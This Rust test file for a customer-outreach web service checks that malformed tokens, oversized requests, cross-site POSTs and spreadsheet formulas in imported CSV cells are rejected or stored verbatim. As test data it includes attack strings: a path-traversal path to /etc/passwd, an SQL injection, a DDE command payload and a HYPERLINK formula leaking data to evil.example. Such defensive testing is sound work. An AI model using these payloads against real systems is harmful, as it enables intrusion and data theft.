//! Bad input from outside: oversized and malformed HTTP requests (against
//! the router and against a running daemon's socket) and spreadsheet
//! formulas in imported cells. Each gets a clear error or is kept as plain
//! text, and none changes anything it should not.

use crate::common;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use chrono::{Duration, Utc};
use common::app::TestApp;
use common::daemon::Daemon;
use common::{Db, Env, backend_test, stderr, stdout, wait_for};
use http_body_util::BodyExt;
use outreach::schedule::start_now;
use outreach::tokens::Purpose;
use tower::ServiceExt;

/// A check-in rule (for a task page), a campaign needing approval (for an
/// approval page); schedules that never fire, runs are started by hand.
const CONFIG: &str = r#"
[limits]
frequency_cap = ""
quiet_hours = ""

[[checkin]]
id = "hallo"
audience = "true"
schedule = "0 3 1 1 *"
assign = "owner"
min_days_between_personal_contacts = 30
due_in = "0d"
escalate_after = "30d"
expire_after = "60d"
max_attempts = 3
reason = "Einfach nachfragen."
template = "checkin"

[[campaign]]
id = "brief"
kind = "status_update"
schedule = "0 3 1 1 *"
template = "status_update"
approval = "required"
approvers = ["jonas"]
approval_timeout = "24h"
"#;

const ANNA: &str = "external_id,email,name,phone,consent,phone_consent,owner\n\
    A,anna@example.de,Anna Apfel,+49 221 555 100,yes,yes,maria\n";

/// Anna with a call task and a run waiting for approval; genuine tokens for
/// her unsubscribe link, her task page and the approval page.
struct Fixture {
    t: TestApp,
    customer: i64,
    task: i64,
    run: i64,
    unsubscribe: String,
    task_token: String,
    approval: String,
}

async fn fixture(url: &str) -> Fixture {
    let t = TestApp::new(url, CONFIG).await;
    t.import(ANNA).await;
    let now = Utc::now();
    start_now(&t.app, "hallo", now).await.unwrap();
    t.tick(now).await;
    let run = start_now(&t.app, "brief", now).await.unwrap();
    t.tick(now).await;
    let customer = t.app.store.find_customer("A").await.unwrap().unwrap().id;
    let tasks = t.app.store.customer_tasks(customer).await.unwrap();
    assert_eq!(tasks.len(), 1, "{url}: {tasks:?}");
    let state = t.app.store.run(run).await.unwrap().unwrap().state;
    assert_eq!(state, "awaiting_approval", "{url}");
    let week = now + Duration::days(7);
    let signer = &t.app.signer;
    Fixture {
        unsubscribe: signer.sign(Purpose::Unsubscribe, customer, week),
        task_token: signer.sign(Purpose::Task, tasks[0].id, week),
        approval: signer.sign(Purpose::Approval, run, week),
        task: tasks[0].id,
        customer,
        run,
        t,
    }
}

impl Fixture {
    /// Everything a request could change: the customer (consent, unsubscribe,
    /// do-not-call, tags …) and their history, the task, the run and its messages.
    async fn snapshot(&self) -> serde_json::Value {
        let store = &self.t.app.store;
        serde_json::json!({
            "customer": store.customers_by_ids(&[self.customer]).await.unwrap(),
            "history": store.customer_events(self.customer).await.unwrap(),
            "tasks": store.customer_tasks(self.customer).await.unwrap(),
            "run": store.run(self.run).await.unwrap(),
            "messages": self.t.counts(self.run).await,
        })
    }

    /// The three link kinds with a genuine token each: (prefix, token, a valid form).
    fn links(&self) -> [(&'static str, &str, &'static str); 3] {
        [
            (
                "/u/",
                self.unsubscribe.as_str(),
                "List-Unsubscribe=One-Click",
            ),
            ("/t/", self.task_token.as_str(), "outcome=do_not_call"),
            ("/a/", self.approval.as_str(), "action=cancel"),
        ]
    }
}

async fn send(router: &axum::Router, request: Request<Body>) -> (StatusCode, String) {
    let response = router.clone().oneshot(request).await.unwrap();
    let status = response.status();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    (status, String::from_utf8_lossy(&bytes).into_owned())
}

fn get(path: &str) -> Request<Body> {
    Request::get(path).body(Body::empty()).unwrap()
}

fn post(path: &str, body: impl Into<Body>) -> Request<Body> {
    Request::post(path)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body.into())
        .unwrap()
}

/// Nothing about Anna, her task or the run on an error page.
fn assert_no_data(what: &str, body: &str) {
    for secret in ["Anna", "Apfel", "+49", "tel:", "<form", "brief", "anna@"] {
        assert!(!body.contains(secret), "{what}: {secret} shown: {body}");
    }
}

backend_test!(a_post_body_over_16_kib_gets_413_and_changes_nothing);
async fn a_post_body_over_16_kib_gets_413_and_changes_nothing(Db { url, .. }: Db) {
    let f = fixture(&url).await;
    let router = f.t.router().await;
    let before = f.snapshot().await;
    for (prefix, token, form) in f.links() {
        let path = format!("{prefix}{token}");
        // A valid form, padded past the limit with a field nobody reads.
        let big = format!("{form}&pad={}", "x".repeat(17 * 1024));
        let (status, body) = send(&router, post(&path, big.clone())).await;
        assert_eq!(
            status,
            StatusCode::PAYLOAD_TOO_LARGE,
            "{url}: {prefix}: {body}"
        );
        assert_no_data(prefix, &body);
        // The same without a Content-Length (chunked): still refused.
        let chunks: Vec<Result<String, std::io::Error>> = big
            .as_bytes()
            .chunks(1024)
            .map(|c| Ok(String::from_utf8(c.to_vec()).unwrap()))
            .collect();
        let (status, body) = send(
            &router,
            post(&path, Body::from_stream(futures::stream::iter(chunks))),
        )
        .await;
        assert_eq!(
            status,
            StatusCode::PAYLOAD_TOO_LARGE,
            "{url}: {prefix} chunked: {body}"
        );
        assert_eq!(
            f.snapshot().await,
            before,
            "{url}: {prefix} changed something"
        );
    }
    // Just under the limit is an ordinary request (the limit is not lower than promised).
    let (path, form) = (format!("/t/{}", f.task_token), "outcome=reached&note=");
    let note = "n".repeat(16 * 1024 - form.len() - 1);
    let (status, body) = send(&router, post(&path, format!("{form}{note}"))).await;
    assert_eq!(status, StatusCode::OK, "{url}: {body}");
    let task = f.t.app.store.task(f.task).await.unwrap().unwrap();
    assert_eq!(task.outcome.map(|o| o.as_str()), Some("reached"), "{url}");
    assert_eq!(
        task.note.map(|n| n.chars().count()),
        Some(4000),
        "{url}: the note is cut at 4000"
    );
}

backend_test!(malformed_truncated_and_garbage_tokens_get_a_plain_error_page_and_change_nothing);
async fn malformed_truncated_and_garbage_tokens_get_a_plain_error_page_and_change_nothing(
    Db { url, .. }: Db,
) {
    let f = fixture(&url).await;
    let router = f.t.router().await;
    let before = f.snapshot().await;
    let other_key = outreach::tokens::Signer::new(vec![outreach::secret::Secret::from_bytes(
        b"not the key of this installation".to_vec(),
    )]);
    for (prefix, token, form) in f.links() {
        let (payload, tag) = token.split_once('.').unwrap();
        let purpose = match prefix {
            "/u/" => Purpose::Unsubscribe,
            "/t/" => Purpose::Task,
            _ => Purpose::Approval,
        };
        let id = match prefix {
            "/u/" => f.customer,
            "/t/" => f.task,
            _ => f.run,
        };
        let bad = [
            token[..token.len() / 2].to_string(), // truncated in the signature…
            token[..payload.len() - 3].to_string(), // …in the payload
            format!("{payload}."),                // no signature
            format!(".{tag}"),                    // no payload
            payload.to_string(),                  // no dot
            format!("{token}.{tag}"),             // a part too many
            format!("{payload}.{}", &tag[1..]),   // a character lost
            format!("{}A.{tag}", payload),        // a character gained
            token.replace('-', "+").replace('_', "/"), // plain base64, not base64url
            format!("{payload}=.{tag}"),          // padded
            "x".repeat(600),                      // too long
            format!("{token}{}", "A".repeat(5000)), // far too long
            "%00%01%02".to_string(),              // control bytes
            "%C3%A4%C3%B6.%C3%BC".to_string(),    // umlauts
            "..%2F..%2Fetc%2Fpasswd".to_string(), // a path
            "%27%20OR%201%3D1%20--".to_string(),  // SQL
            other_key.sign(purpose, id, Utc::now() + Duration::days(1)), // another key
        ];
        for b in bad.iter().filter(|b| *b != token) {
            let path = format!("{prefix}{b}");
            for request in [get(&path), post(&path, form)] {
                let method = request.method().clone();
                let (status, body) = send(&router, request).await;
                assert_eq!(
                    status,
                    StatusCode::NOT_FOUND,
                    "{url}: {method} {path}: {body}"
                );
                assert!(
                    body.contains("Dieser Link funktioniert nicht"),
                    "{method} {path}: {body}"
                );
                assert_no_data(&path, &body);
            }
        }
    }
    assert_eq!(
        f.snapshot().await,
        before,
        "{url}: a bad link changed something"
    );
    // The genuine links still work afterwards.
    for (prefix, token, _) in f.links() {
        let (status, body) = send(&router, get(&format!("{prefix}{token}"))).await;
        assert_eq!(status, StatusCode::OK, "{url}: {prefix}: {body}");
    }
}

backend_test!(wrong_form_fields_get_a_4xx_that_says_what_is_wrong_and_change_nothing);
async fn wrong_form_fields_get_a_4xx_that_says_what_is_wrong_and_change_nothing(
    Db { url, .. }: Db,
) {
    let f = fixture(&url).await;
    let router = f.t.router().await;
    let before = f.snapshot().await;
    let task = format!("/t/{}", f.task_token);
    let approval = format!("/a/{}", f.approval);
    // (path, body, expected status, a word the answer must contain)
    let cases: Vec<(&str, &str, StatusCode, &str)> = vec![
        (&task, "", StatusCode::UNPROCESSABLE_ENTITY, "outcome"),
        (
            &task,
            "note=hallo",
            StatusCode::UNPROCESSABLE_ENTITY,
            "outcome",
        ),
        (
            &task,
            "Outcome=reached",
            StatusCode::UNPROCESSABLE_ENTITY,
            "outcome",
        ),
        (
            &task,
            "outcome=",
            StatusCode::UNPROCESSABLE_ENTITY,
            "outcome",
        ),
        (
            &task,
            "outcome=REACHED",
            StatusCode::UNPROCESSABLE_ENTITY,
            "outcome",
        ),
        (
            &task,
            "outcome=reached%00",
            StatusCode::UNPROCESSABLE_ENTITY,
            "outcome",
        ),
        (
            &task,
            "outcome=%ZZ",
            StatusCode::UNPROCESSABLE_ENTITY,
            "outcome",
        ),
        (
            &task,
            "outcome=reached&outcome=do_not_call",
            StatusCode::UNPROCESSABLE_ENTITY,
            "outcome",
        ),
        (
            &task,
            "outcome=callback",
            StatusCode::UNPROCESSABLE_ENTITY,
            "callback",
        ),
        (
            &task,
            "outcome=callback&callback_on=morgen",
            StatusCode::UNPROCESSABLE_ENTITY,
            "callback",
        ),
        (
            &task,
            "outcome=callback&callback_on=2026-02-30",
            StatusCode::UNPROCESSABLE_ENTITY,
            "callback",
        ),
        (
            &task,
            "outcome=callback&callback_on=99999-01-01",
            StatusCode::UNPROCESSABLE_ENTITY,
            "callback",
        ),
        (&approval, "", StatusCode::UNPROCESSABLE_ENTITY, "action"),
        (
            &approval,
            "action=delete",
            StatusCode::UNPROCESSABLE_ENTITY,
            "approve, approve_unchanged or cancel",
        ),
        (
            &approval,
            "action=approve&action=cancel",
            StatusCode::UNPROCESSABLE_ENTITY,
            "action",
        ),
    ];
    for (path, form, status, word) in cases {
        let (got, body) = send(&router, post(path, form)).await;
        assert_eq!(got, status, "{url}: {path} {form:?}: {body}");
        assert!(body.contains(word), "{path} {form:?}: unclear: {body}");
        assert_eq!(
            f.snapshot().await,
            before,
            "{url}: {form:?} changed something"
        );
    }
    // Not a form at all.
    for (path, form) in [(&task, "outcome=reached"), (&approval, "action=approve")] {
        for content_type in [
            "application/json",
            "text/plain",
            "multipart/form-data; boundary=x",
        ] {
            let request = Request::post(path.as_str())
                .header("content-type", content_type)
                .body(Body::from(form))
                .unwrap();
            let (got, body) = send(&router, request).await;
            assert_eq!(
                got,
                StatusCode::UNSUPPORTED_MEDIA_TYPE,
                "{url}: {content_type}: {body}"
            );
            assert!(body.contains("application/x-www-form-urlencoded"), "{body}");
        }
    }
    assert_eq!(f.snapshot().await, before, "{url}");
}

backend_test!(garbage_in_the_path_gets_a_4xx_and_the_router_keeps_answering);
async fn garbage_in_the_path_gets_a_4xx_and_the_router_keeps_answering(Db { url, .. }: Db) {
    let f = fixture(&url).await;
    let router = f.t.router().await;
    let before = f.snapshot().await;
    for path in [
        "/u/%FF%FE",   // not UTF-8 once decoded
        "/t/%C3%28",   // an invalid UTF-8 sequence
        "/a/%E2%82",   // a truncated one
        "/t/%",        // a lone percent
        "/t/%G1",      // not hex
        "/u/",         // no token
        "/t/a/b",      // one segment too many
        "/x/whatever", // no such page
        "/healthz/%FF",
    ] {
        for request in [get(path), post(path, "outcome=do_not_call")] {
            let method = request.method().clone();
            let (status, body) = send(&router, request).await;
            assert!(
                status.is_client_error(),
                "{url}: {method} {path}: {status} {body}"
            );
            assert_no_data(path, &body);
        }
    }
    assert_eq!(f.snapshot().await, before, "{url}");
    let (status, _) = send(&router, get("/healthz")).await;
    assert_eq!(status, StatusCode::OK);
}

// ------------------------------------------------- against a daemon's socket

/// `outreach run` on a SQLite database, answering `/healthz` with 200.
fn start_daemon(env: &Env) -> Daemon {
    let daemon = Daemon::start(env, "daemon", &[]);
    wait_for(
        "a healthy daemon",
        std::time::Duration::from_secs(30),
        || daemon.healthz().0 == 200,
    );
    daemon
}

/// `outreach customers show KEY --json`.
fn show(env: &Env, key: &str) -> serde_json::Value {
    let out = env.run(&["customers", "show", key, "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Writes `request` as is (the server may stop reading early) and reads the
/// answer: (status code, whole response); `None` if there was none.
fn raw(port: u16, request: &[u8]) -> Option<(u16, String)> {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
    stream
        .set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    // The server may answer and close before everything is written.
    let _ = stream.write_all(request);
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    let text = String::from_utf8_lossy(&answer).into_owned();
    let code = text.split_whitespace().nth(1)?.parse().ok()?;
    Some((code, text))
}

#[test]
fn huge_urls_headers_bodies_and_garbage_are_refused_and_the_daemon_keeps_answering() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}/outreach.db", dir.path().display());
    let env = Env::in_dir(dir, &url, CONFIG);
    let csv = env.write("anna.csv", ANNA);
    let out = env.run(&["import", "customers", csv.to_str().unwrap()]);
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    let before = show(&env, "A");
    let mut daemon = start_daemon(&env);
    let port = daemon.port;
    let long_token = "A".repeat(100 * 1024);
    let huge_token = "A".repeat(2 * 1024 * 1024);
    let big_header = "x".repeat(1024 * 1024);
    let many_headers: String = (0..500).map(|i| format!("X-H{i}: {i}\r\n")).collect();
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "a 100 KiB URL",
            format!("GET /u/{long_token} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").into(),
        ),
        (
            "a 2 MiB URL",
            format!("GET /t/{huge_token} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").into(),
        ),
        (
            "a 1 MiB header",
            format!("GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: {big_header}\r\nConnection: close\r\n\r\n")
                .into(),
        ),
        (
            "500 headers",
            format!("GET /healthz HTTP/1.1\r\nHost: x\r\n{many_headers}Connection: close\r\n\r\n").into(),
        ),
        (
            "a 100 MB body announced",
            format!(
                "POST /t/x.y HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n\
                 Content-Length: 100000000\r\nConnection: close\r\n\r\noutcome=reached&note={}",
                "n".repeat(64 * 1024)
            )
            .into(),
        ),
        ("not HTTP", b"\x00\x01\x02\xff\xfe garbage\r\n\r\n".to_vec()),
        ("a bad method", b"G\xc3\xa4T / HTTP/1.1\r\nHost: x\r\n\r\n".to_vec()),
        ("a bad version", b"GET /healthz HTTP/9.9\r\nHost: x\r\n\r\n".to_vec()),
        ("a raw non-UTF-8 path", b"GET /u/\xff\xfe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".to_vec()),
        ("a header without a colon", b"GET /healthz HTTP/1.1\r\nHost x\r\n\r\n".to_vec()),
    ];
    for (what, request) in &cases {
        let started = std::time::Instant::now();
        let answer = raw(port, request);
        let log = daemon.log();
        let (code, text) = answer.unwrap_or_else(|| panic!("{what}: no answer at all\n{log}"));
        assert!(
            (400..500).contains(&code),
            "{what}: {code}: {}",
            &text[..text.len().min(500)]
        );
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "{what}: took {:?}",
            started.elapsed()
        );
        assert!(
            daemon.child.try_wait().unwrap().is_none(),
            "{what}: the daemon exited\n{log}"
        );
        let (health_code, health) = raw(port, b"GET /healthz HTTP/1.0\r\n\r\n")
            .unwrap_or_else(|| panic!("after {what}: /healthz did not answer\n{log}"));
        assert_eq!(health_code, 200, "after {what}: {health}");
        eprintln!(
            "{what}: {} answered in {:.1?}",
            text.lines().next().unwrap_or(""),
            started.elapsed()
        );
    }
    // Anna is untouched: same record, same history.
    assert_eq!(show(&env, "A"), before);
    daemon.kill9();
}

// ------------------------------------------------------ formula injection

#[test]
fn spreadsheet_formulas_in_imported_cells_are_kept_verbatim_and_exported_as_plain_json_strings() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}/outreach.db", dir.path().display());
    let env = Env::in_dir(dir, &url, CONFIG);
    // Cells a spreadsheet would evaluate: = + - @, a DDE payload, quotes and
    // commas inside (CSV-quoted), and a phone number that rightly starts with +.
    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Klick")"#;
    let dde = "=cmd|' /C calc'!A0";
    let rows = [
        (
            "F1",
            "f1@example.de",
            hyperlink,
            "+1+1",
            "+49 221 555 100",
            "=1+1;@SUM(A1)",
        ),
        (
            "F2",
            "f2@example.de",
            "+SUM(A1:A9)",
            "-2+3",
            "+43 1 234",
            "-x",
        ),
        (
            "F3",
            "f3@example.de",
            "-Anna",
            "@SUM(1,2)",
            "+41 44 000",
            "+1",
        ),
        ("F4", "f4@example.de", "@Bertram", dde, "+1 555 0100", "@"),
    ];
    let quote = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let mut csv = String::from("external_id,email,name,consent,kassenhinweis,phone,tags\n");
    for (id, email, name, notiz, phone, tags) in rows {
        csv.push_str(&format!(
            "{id},{email},{},yes,{},{},{}\n",
            quote(name),
            quote(notiz),
            quote(phone),
            quote(tags)
        ));
    }
    let path = env.write("formulas.csv", &csv);
    let out = env.run(&["import", "customers", path.to_str().unwrap()]);
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    assert!(stdout(&out).contains("imported 4,"), "{}", stdout(&out));
    for (id, email, name, notiz, phone, tags) in rows {
        let out = env.run(&["customers", "export", id]);
        assert!(out.status.success(), "{id}: {}", stderr(&out));
        // Valid JSON, and each value a JSON string exactly as imported.
        let doc: serde_json::Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{id}: export is not JSON: {e}\n{}", stdout(&out)));
        let c = &doc["customer"];
        assert_eq!(c["email"], email, "{id}: {c}");
        assert_eq!(c["name"], serde_json::json!(name), "{id}: {c}");
        assert_eq!(c["phone"], serde_json::json!(phone), "{id}: {c}");
        assert_eq!(
            c["attributes"]["kassenhinweis"],
            serde_json::json!(notiz),
            "{id}: {c}"
        );
        let want: Vec<&str> = tags.split(';').collect();
        assert_eq!(c["tags"], serde_json::json!(want), "{id}: {c}");
        // Nothing added in front (no ' or tab: that would change the data).
        let text = stdout(&out);
        assert!(
            text.contains(&serde_json::to_string(name).unwrap()),
            "{id}: {text}"
        );
        // The human-readable view prints the same text.
        let shown = env.run(&["customers", "show", id]);
        assert!(shown.status.success(), "{}", stderr(&shown));
        assert!(stdout(&shown).contains(name), "{id}: {}", stdout(&shown));
    }
}

/// A request as a browser on another site would send it.
fn cross_site(
    path: &str,
    body: &'static str,
    origin: Option<&str>,
    fetch_site: Option<&str>,
) -> Request<Body> {
    let mut request =
        Request::post(path).header("content-type", "application/x-www-form-urlencoded");
    if let Some(origin) = origin {
        request = request.header("origin", origin);
    }
    if let Some(site) = fetch_site {
        request = request.header("sec-fetch-site", site);
    }
    request.body(Body::from(body)).unwrap()
}

backend_test!(pages_are_never_cached_framed_sniffed_or_passed_on_as_referrers);
async fn pages_are_never_cached_framed_sniffed_or_passed_on_as_referrers(Db { url, .. }: Db) {
    let f = fixture(&url).await;
    let router = f.t.router().await;
    let mut requests: Vec<Request<Body>> = f
        .links()
        .iter()
        .map(|(prefix, token, _)| get(&format!("{prefix}{token}")))
        .collect();
    requests.push(get("/t/not-a-token"));
    requests.push(post(&format!("/a/{}", f.approval), "action=bogus"));
    for request in requests {
        let path = request.uri().to_string();
        let response = router.clone().oneshot(request).await.unwrap();
        let headers = response.headers();
        let header = |name: &str| {
            headers
                .get(name)
                .map(|v| v.to_str().unwrap().to_string())
                .unwrap_or_else(|| panic!("{url}: {path}: no {name}"))
        };
        assert_eq!(header("cache-control"), "no-store", "{path}");
        assert_eq!(header("referrer-policy"), "no-referrer", "{path}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        let csp = header("content-security-policy");
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(csp.contains("default-src 'none'"), "{path}: {csp}");
    }
}

backend_test!(a_cross_site_post_to_a_task_or_approval_page_gets_403_and_changes_nothing);
async fn a_cross_site_post_to_a_task_or_approval_page_gets_403_and_changes_nothing(
    Db { url, .. }: Db,
) {
    let f = fixture(&url).await;
    let router = f.t.router().await;
    let before = f.snapshot().await;
    let task = format!("/t/{}", f.task_token);
    let approval = format!("/a/{}", f.approval);
    for (path, form) in [
        (&task, "outcome=do_not_call"),
        (&approval, "action=approve"),
    ] {
        for (origin, site) in [
            (Some("https://evil.example"), None),
            (Some("https://evil.example"), Some("cross-site")),
            (None, Some("cross-site")),
            (Some("null"), None),
            // Another port is another origin.
            (Some("http://127.0.0.1:9999"), Some("same-site")),
        ] {
            let (status, body) = send(&router, cross_site(path, form, origin, site)).await;
            assert_eq!(
                status,
                StatusCode::FORBIDDEN,
                "{url}: {path} {origin:?} {site:?}: {body}"
            );
            assert_no_data(path, &body);
        }
    }
    assert_eq!(
        f.snapshot().await,
        before,
        "{url}: a cross-site POST changed something"
    );

    // From the page itself (its origin is base_url's), the form works.
    let (status, body) = send(
        &router,
        cross_site(
            &approval,
            "action=approve",
            Some("http://127.0.0.1:8080"),
            Some("same-origin"),
        ),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{url}: {body}");
    let run = f.t.app.store.run(f.run).await.unwrap().unwrap();
    assert_eq!(run.state, "sending", "{url}");
    // Behind a proxy that keeps the Host header, the page's own origin is the host's.
    let proxied = Request::post(&task)
        .header("content-type", "application/x-www-form-urlencoded")
        .header("host", "post.cafe-test.example")
        .header("origin", "https://post.cafe-test.example")
        .body(Body::from("outcome=reached"))
        .unwrap();
    let (status, body) = send(&router, proxied).await;
    assert_eq!(status, StatusCode::OK, "{url}: {body}");
    // A browser that says the post is from the page itself is believed,
    // whatever its Origin (it cannot be set by a page): under
    // `Referrer-Policy: no-referrer` Chromium sends the page's own form
    // with `Origin: null`.
    let (status, body) = send(
        &router,
        cross_site(
            &approval,
            "action=approve",
            Some("null"),
            Some("same-origin"),
        ),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{url}: {body}");

    // RFC 8058 one-click unsubscribes come from mail providers: accepted from anywhere.
    let (status, body) = send(
        &router,
        cross_site(
            &format!("/u/{}", f.unsubscribe),
            "List-Unsubscribe=One-Click",
            Some("https://mail.provider.example"),
            Some("cross-site"),
        ),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{url}: {body}");
    let anna = f.t.app.store.customers_by_ids(&[f.customer]).await.unwrap();
    assert!(anna[0].unsubscribed_at.is_some(), "{url}");
}
